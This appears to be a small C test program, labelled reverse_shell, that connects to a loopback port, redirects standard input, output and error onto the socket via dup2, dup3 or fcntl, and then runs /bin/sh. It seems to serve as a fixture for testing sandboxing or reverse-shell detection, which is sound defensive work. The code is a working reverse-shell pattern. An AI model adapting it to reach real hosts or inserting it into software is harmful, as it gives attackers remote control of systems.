/* reverse_shell HOW PORT: connects to 127.0.0.1:PORT and becomes a shell on that socket. HOW: dup2,
 * dup3, fcntl. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>

#include "loopback.h"

static void place(const char* how, int fd, int target) {
  if (!strcmp(how, "dup2")) dup2(fd, target);
  if (!strcmp(how, "dup3")) dup3(fd, target, 0);
  if (!strcmp(how, "fcntl")) {
    close(target);
    fcntl(fd, F_DUPFD, target);
  }
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  int fd = connect_to(argv[2]);
  for (int target = 0; target < 3; ++target) place(argv[1], fd, target);
  close(fd);
  execl("/bin/sh", "sh", (char*)NULL);
  return 127;
}
